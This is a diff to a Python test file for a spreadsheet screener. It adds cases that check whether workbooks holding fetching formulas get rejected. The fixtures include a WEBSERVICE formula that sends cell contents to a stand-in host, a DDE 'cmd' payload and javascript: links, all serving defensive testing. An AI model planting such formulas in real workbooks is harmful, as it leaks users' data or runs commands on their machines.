@@ -6,6 +6,7 @@ import io
 import re
 from collections.abc import Callable
 from pathlib import Path
+from xml.sax.saxutils import escape
 
 import openpyxl
 import pytest
@@ -388,9 +389,34 @@ def cell(old: str, new: str) -> bytes:
     return edited(plain(), SHEET, old, new)
 
 
-def named(**attributes: str) -> bytes:
+def rule(written: str) -> bytes:
+    def fill(_: xlsxwriter.Workbook, sheet: Worksheet) -> None:
+        sheet.conditional_format("A1:A9", {"type": "formula", "criteria": written})
+
+    return book(OLD_ROWS, {MINE: fill})
+
+
+def drop_down(written: str) -> bytes:
+    def fill(_: xlsxwriter.Workbook, sheet: Worksheet) -> None:
+        sheet.data_validation("A1", {"validate": "list", "source": written})
+
+    return book(OLD_ROWS, {MINE: fill})
+
+
+def chart_over(written: str) -> bytes:
+    def fill(made: xlsxwriter.Workbook, sheet: Worksheet) -> None:
+        chart = made.add_chart({"type": "line"})
+        chart.add_series({"values": "=Actions!$B$2:$B$4"})
+        sheet.insert_chart("C3", chart)
+
+    made = book(OLD_ROWS, {MINE: fill})
+    part = next(name for name, data in read_package(made).parts.items() if b"Actions!$B$2:$B$4" in data)
+    return edited(made, part, re.escape("Actions!$B$2:$B$4"), escape(written.removeprefix("=")))
+
+
+def named(written: str = "1", **attributes: str) -> bytes:
     marks = "".join(f' {name}="{value}"' for name, value in attributes.items())
-    names = f'<definedNames><definedName name="Trick"{marks}>1</definedName>'
+    names = f'<definedNames><definedName name="Trick"{marks}>{written}</definedName>'
     return edited(formula("=Trick+1"), "xl/workbook.xml", "<definedNames>", names)
 
 
@@ -414,6 +440,7 @@ FETCHED = "shows a picture that is fetched from elsewhere"
 NO_LINK = "holds a link that is no page, mail or file (javascript:)"
 CONTROL = "holds a form control, which may run a macro"
 ELSEWHERE = "points to another workbook"
+ASKING = "holds a formula that fetches something, or asks another program"
 
 
 @pytest.mark.parametrize(
@@ -433,6 +460,12 @@ ELSEWHERE = "points to another workbook"
         (arrow_to("urn:x/news"), "holds something that sspxl does not know (news)"),
         (formula("=[1]Sheet1!A1"), ELSEWHERE),
         (formula("=cmd|'/c calc'!A0"), ELSEWHERE),
+        (formula('=_xlfn.WEBSERVICE("http://x.example/?"&Actions!A2)'), f"{ASKING} (WEBSERVICE)"),
+        (rule('=_xlfn.IMAGE("http://x.example/a.png")=1'), f"{ASKING} (IMAGE)"),
+        (drop_down('=_xlfn.STOCKHISTORY("X",1)'), f"{ASKING} (STOCKHISTORY)"),
+        (chart_over('=_xlfn.WEBSERVICE("http://x.example")'), f"{ASKING} (WEBSERVICE)"),
+        (named('_xlfn.WEBSERVICE("http://x.example")'), 'uses the name "trick", which could not be carried'),
+        (formula('=HYPERLINK("javascript:alert(1)")'), NO_LINK),
         (with_arrow(plain(), SHEET, f"{OFFICE}/externalLinkPath", "b.xlsx", external=True), ELSEWHERE),
         (drawing(f"{OFFICE}/image", "https://example.org/a.png", external=True), FETCHED),
         (drawing(f"{OFFICE}/hyperlink", "javascript:alert(1)", external=True), NO_LINK),
@@ -460,6 +493,9 @@ def test_a_sheet_stays_out_with_its_reason(old: bytes, why: str) -> None:
         vml('Note"/><v:imagedata o:relid="rId1'),
         formula('="a|b"&A2'),
         formula("=SUM(A2:A9)"),
+        formula("=_xlfn.FILTERXML(A2,A3)"),
+        formula('=HYPERLINK("https://example.org/?q="&Actions!A2,"javascript:")'),
+        formula("=HYPERLINK(Actions!A2)"),
         named(hidden="1"),
         named(function="0"),
         drawing(f"{OFFICE}/hyperlink", "https://example.org/?q=javascript:", external=True),
